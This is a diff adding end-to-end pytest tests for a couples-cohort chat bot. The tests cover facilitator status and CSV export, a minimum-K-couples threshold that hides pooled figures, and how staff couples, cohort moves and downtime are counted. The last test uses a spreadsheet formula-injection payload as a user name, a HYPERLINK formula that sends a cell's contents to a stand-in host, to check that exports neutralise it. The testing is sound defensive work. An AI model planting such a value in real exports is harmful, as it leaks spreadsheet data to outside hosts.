@@ -1,0 +1,237 @@
+"""Cohorts end to end, what facilitators see: status and export, pooled figures only over
+at least K couples, the interdependence check before and after."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import AsyncIterator
+from datetime import UTC, datetime
+
+import pytest
+
+from bot import texts
+from bot.emulator import FakeBotAPI
+from bot.sandbox import Sandbox, sandbox
+from scheduler.clock import ManualClock
+from tests.conftest import Picker, invite_link, make_pair, start_user
+from tests.e2e.helpers import (
+    ADMIN,
+    answer_everything,
+    enrol_couples,
+    link_in,
+    make_facilitator,
+    new_cohort,
+    pass_everything,
+)
+
+
+# The conftest's ``box``, with ADMIN as an admin.
+@pytest.fixture
+async def box(
+    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
+) -> AsyncIterator[Sandbox]:
+    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, admins=[ADMIN]) as running:
+        yield running
+
+
+async def test_the_interdependence_check_before_and_after_with_k_couples(
+    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
+) -> None:
+    async with sandbox(
+        db_url, clock=clock, fake=fake, picker=picker, admins=[ADMIN], min_pairs=3
+    ) as box:
+        fay = await make_facilitator(box, 800, "Fay")
+        link = await new_cohort(fay)
+        couples = []
+        for n in range(3):
+            a, b = box.fake.user(3001 + 2 * n, f"C{n}"), box.fake.user(3002 + 2 * n, f"D{n}")
+            await start_user(a, "Berlin")
+            await start_user(b, "Berlin")
+            await a.send("/pair")
+            await b.open_link(invite_link(a))
+            await b.press(texts.INVITE_ACCEPT)
+            await a.open_link(link)
+            await a.press(texts.BTN_JOIN)
+            await b.press(texts.BTN_JOIN)
+            couples.append((a, b))
+
+        async def check_day(when: datetime) -> None:
+            marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
+            await box.run_until(when)
+            box.clock.set(when)
+            await box.tick()
+            for a, b in couples:
+                for user in (a, b):
+                    await answer_everything(user, marks[user.user_id])
+
+        await check_day(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))  # week 1: the check
+        await check_day(datetime(2026, 4, 13, 19, 0, tzinfo=UTC))  # week 6: the check again
+        await box.advance(datetime(2026, 4, 20, 9, 0, tzinfo=UTC) - box.clock.now())
+        await fay.send("/cohorts")
+        await fay.press(texts.BTN_STATUS)
+        status = fay.chat.last.text
+        assert texts.STATUS_CHECK in status
+        program = box.runtime.content.programs["interdependence-6w"]
+        assert status.count("\u2192") >= len(program.check)
+        await fay.press(texts.BTN_EXPORT)
+        document = fay.chat.last.document
+        assert document is not None
+        rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
+        assert {r[2] for r in rows if r[0] == "check"} == set(program.check)
+
+
+async def test_a_figure_needs_k_couples_who_answered_it_not_counting_the_viewers_own(
+    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
+) -> None:
+    settings = {"admins": [ADMIN], "min_pairs": 3}
+    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
+        fay = await make_facilitator(box, 800, "Fay")
+        gus = await make_facilitator(box, 801, "Gus")
+        link = await new_cohort(fay)
+        await fay.send("/cohorts")
+        await fay.press(texts.BTN_COFACILITATOR)
+        await gus.open_link(link_in(fay))
+        couples = await enrol_couples(box, link, 3)
+        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
+        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
+        # Only the first couple answers the check; the others keep every answer private.
+        for index, (a, b) in enumerate(couples):
+            for user in (a, b):
+                mark = marks[user.user_id]
+                await (answer_everything if index == 0 else pass_everything)(user, mark)
+        await box.advance(datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now())
+        await fay.send("/cohorts")
+        await fay.press(texts.BTN_STATUS)
+        status = fay.chat.last.text
+        assert texts.STATUS_AGGREGATES_HIDDEN.format(k=3) in status
+        assert "across" not in status and "\u2192" not in status.split("Couples who completed")[1]
+        await fay.press(texts.BTN_EXPORT)
+        assert fay.chat.last.document is not None
+        rows = list(csv.reader(io.StringIO(fay.chat.last.document.decode("utf-8-sig"))))
+        assert not [r for r in rows if r[0] in ("differences", "check")]
+        # Not because nobody was asked: all three couples had the check round.
+        assert len([r for r in rows if r[0] == "participation" and r[1] == "1"]) == 3
+
+
+async def test_staff_couples_do_not_count_towards_k_for_anyone(
+    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
+) -> None:
+    settings = {"admins": [ADMIN], "min_pairs": 3}
+    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
+        fay = await make_facilitator(box, 800, "Fay")
+        gus = await make_facilitator(box, 801, "Gus")
+        link = await new_cohort(fay)
+        await fay.send("/cohorts")
+        await fay.press(texts.BTN_COFACILITATOR)
+        await gus.open_link(link_in(fay))
+        # Fay takes part herself, with her partner, beside three other couples.
+        pat = box.fake.user(802, "Pat")
+        await start_user(pat, "Berlin")
+        await fay.send("/timezone Berlin")
+        await fay.send("/pair")
+        await pat.open_link(invite_link(fay))
+        await pat.press(texts.INVITE_ACCEPT)
+        await fay.open_link(link)
+        await fay.press(texts.BTN_JOIN)
+        await pat.press(texts.BTN_JOIN)
+        others = await enrol_couples(box, link, 3)
+        couples = [(fay, pat), *others]
+        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
+        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
+        for a, b in couples:
+            for user in (a, b):
+                await answer_everything(user, marks[user.user_id])
+        await box.advance(datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now())
+        views = []
+        for viewer in (fay, gus):
+            await viewer.send("/cohorts")
+            await viewer.press(texts.BTN_STATUS)
+            views.append(viewer.chat.last.text.split("Couples who completed")[1])
+        # Four couples answered, three besides Fay's own: enough (K = 3) for both of them,
+        # and the same view for both (staff couples never count towards K for anyone).
+        assert "across 4 couples" in views[0]
+        assert views[0] == views[1]
+
+
+async def test_a_couple_that_moves_cohorts_counts_only_where_it_answered(box: Sandbox) -> None:
+    fay = await make_facilitator(box, 800, "Fay")
+    first = await new_cohort(fay)
+    second = await new_cohort(fay)
+    alex, sam = await make_pair(box)
+    await alex.open_link(first)
+    await alex.press(texts.BTN_JOIN)
+    await sam.press(texts.BTN_JOIN)
+    marks = {u.user_id: len(u.chat.messages) for u in (alex, sam)}
+    await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
+    for user in (alex, sam):
+        await answer_everything(user, marks[user.user_id])
+    await alex.send("/leave_cohort")
+    await alex.press(texts.BTN_LEAVE_YES)
+    await alex.open_link(second)
+    await alex.press(texts.BTN_JOIN)
+    await sam.press(texts.BTN_JOIN)
+    marks = {u.user_id: len(u.chat.messages) for u in (alex, sam)}
+    await box.run_until(datetime(2026, 3, 11, 19, 0, tzinfo=UTC))
+    for user in (alex, sam):
+        await answer_everything(user, marks[user.user_id])
+    await box.run_until(datetime(2026, 3, 16, 9, 0, tzinfo=UTC))
+    await fay.send("/cohorts")
+    exported = {}
+    for message in fay.chat.messages[-2:]:  # newest cohort first
+        await fay.press_data(
+            message.message_id, f"co:export:{2 if message is fay.chat.messages[-2] else 1}"
+        )
+        document = fay.chat.last.document
+        assert document is not None
+        rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
+        exported[fay.chat.last.text] = [r for r in rows if r[0] == "participation"]
+    # Each cohort counts only the round it asked: the check in the first, one question in
+    # the second (which, asking its own first round, started with the check too).
+    assert all(len(rows) == 1 and rows[0][4] == "1" for rows in exported.values())
+
+
+async def test_weeks_missed_during_downtime_are_still_frozen(
+    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
+) -> None:
+    settings = {"admins": [ADMIN], "min_pairs": 3}
+    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
+        fay = await make_facilitator(box, 800, "Fay")
+        link = await new_cohort(fay)
+        couples = await enrol_couples(box, link, 3)
+        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
+        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
+        for a, b in couples:
+            for user in (a, b):
+                await answer_everything(user, marks[user.user_id])
+        box.clock.set(datetime(2026, 3, 24, 12, 0, tzinfo=UTC))  # down for two week boundaries
+        await box.tick()
+        await fay.send("/cohorts")
+        await fay.press(texts.BTN_EXPORT)
+        assert fay.chat.last.document is not None
+        rows = list(csv.reader(io.StringIO(fay.chat.last.document.decode("utf-8-sig"))))
+        assert {r[1] for r in rows if r[0] == "participation"} == {"1"}
+        assert [r for r in rows if r[0] == "differences" and r[1] == "1"]  # frozen, K couples
+
+
+async def test_the_export_never_hands_a_spreadsheet_a_formula(box: Sandbox) -> None:
+    fay = await make_facilitator(box, 800, "Fay")
+    link = await new_cohort(fay)
+    mal = box.fake.user(1020, '=HYPERLINK("http://x.example/?"&A1,"x")')
+    kit = box.fake.user(1021, "Kit")
+    await start_user(mal, "Berlin")
+    await start_user(kit, "Berlin")
+    await mal.send("/pair")
+    await kit.open_link(invite_link(mal))
+    await kit.press(texts.INVITE_ACCEPT)
+    await mal.open_link(link)
+    await mal.press(texts.BTN_JOIN)
+    await kit.press(texts.BTN_JOIN)
+    await box.run_until(datetime(2026, 3, 16, 9, 0, tzinfo=UTC))
+    await fay.send("/cohorts")
+    await fay.press(texts.BTN_EXPORT)
+    document = fay.chat.last.document
+    assert document is not None
+    rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
+    names = [r[2] for r in rows if r[0] == "participation"]
+    assert names and all(not n.startswith(("=", "+", "-", "@")) for n in names)
